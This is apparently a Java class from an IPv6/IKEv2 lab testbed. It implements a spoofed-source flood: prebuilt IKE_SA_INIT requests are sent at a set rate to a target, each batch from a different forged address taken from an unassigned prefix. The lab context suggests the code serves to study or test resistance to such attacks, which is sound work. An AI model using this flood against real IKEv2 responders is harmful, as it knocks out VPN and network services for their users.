package mip6.lab.demo;

import mip6.ikev2.crypto.EphemeralKey;
import mip6.ikev2.crypto.KeyExchangeGroup;
import mip6.lab.net.Host;
import mip6.linux.LinuxException;
import mip6.linux.UdpSocket;
import mip6.wire.Bytes;
import mip6.wire.Ipv6Address;
import mip6.wire.Ipv6Prefix;

import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.ScheduledFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/**
 * IKE_SA_INIT requests from addresses of a network that is nobody's, a few from each, at a rate,
 * for some time. They are made beforehand, and the kernel tells them apart, so that to send them
 * costs little.
 */
final class SpoofedFlood implements AutoCloseable {

    private static final int MADE = 1024;

    /** Datagrams of one address, one behind the other. */
    private static final int TOGETHER = 10;

    private static final int BURSTS_PER_SECOND = 1000;

    private final UdpSocket socket;
    private final Ipv6Prefix sources;
    private final Ipv6Address target;
    private final List<Bytes> bundles = new ArrayList<>();
    private final int burst;
    private final long most;
    private final long longest;
    private final ScheduledExecutorService clock =
            Executors.newSingleThreadScheduledExecutor(
                    Thread.ofPlatform().name("flood").daemon().factory());
    private final long since = System.nanoTime();
    private volatile long sent;
    private volatile long ended;

    private SpoofedFlood(
            Attacker maker,
            UdpSocket socket,
            Ipv6Prefix sources,
            Ipv6Address target,
            int rate,
            int seconds)
            throws LinuxException {
        EphemeralKey key = KeyExchangeGroup.CURVE25519.generate(maker.random());
        int length = maker.init(maker.initPayloads(key)).encode().length();
        for (int i = 0; i < MADE; i++) {
            bundles.add(
                    Bytes.concat(
                            Stream.generate(() -> maker.init(maker.initPayloads(key)).encode())
                                    .limit(TOGETHER)
                                    .toArray(Bytes[]::new)));
        }
        socket.segments(length);
        this.socket = socket;
        this.sources = sources;
        this.target = target;
        burst = rate / BURSTS_PER_SECOND;
        most = (long) rate * seconds;
        longest = TimeUnit.SECONDS.toNanos(seconds);
        ScheduledFuture<?> _ =
                clock.scheduleAtFixedRate(
                        this::burst,
                        0,
                        TimeUnit.SECONDS.toNanos(1) / BURSTS_PER_SECOND,
                        TimeUnit.NANOSECONDS);
    }

    /**
     * Begins.
     *
     * @param rate in a second; a machine that is too slow for it sends what it can
     * @param seconds after which it ends by itself
     */
    static SpoofedFlood from(
            Host host,
            Attacker maker,
            Ipv6Prefix sources,
            Ipv6Address target,
            int rate,
            int seconds)
            throws LinuxException {
        UdpSocket socket =
                host.call(() -> UdpSocket.bindFreely(Ipv6Address.UNSPECIFIED, Attacker.PORT));
        return new SpoofedFlood(maker, socket, sources, target, rate, seconds);
    }

    private void burst() {
        long count = sent;
        if (isOver()) {
            return;
        }
        for (int i = 0; i < burst && count < most; i += TOGETHER) {
            try {
                socket.send(
                        new Ipv6Address(sources.address().high() | count & 0xffff, count + 1),
                        0,
                        target,
                        Attacker.PORT,
                        bundles.get((int) (count / TOGETHER % MADE)));
            } catch (LinuxException full) {
                // the next one, then
            }
            count += TOGETHER;
        }
        sent = count;
        ended = System.nanoTime();
    }

    boolean isOver() {
        return sent >= most || System.nanoTime() - since > longest;
    }

    @Override
    public String toString() {
        double seconds = (ended - since) / 1e9;
        return "%d in %.1f s, %.0f in a second".formatted(sent, seconds, sent / seconds);
    }

    @Override
    public void close() {
        clock.shutdownNow();
        try {
            if (!clock.awaitTermination(10, TimeUnit.SECONDS)) {
                throw new AssertionError("a flood that does not end");
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        socket.close();
    }
}
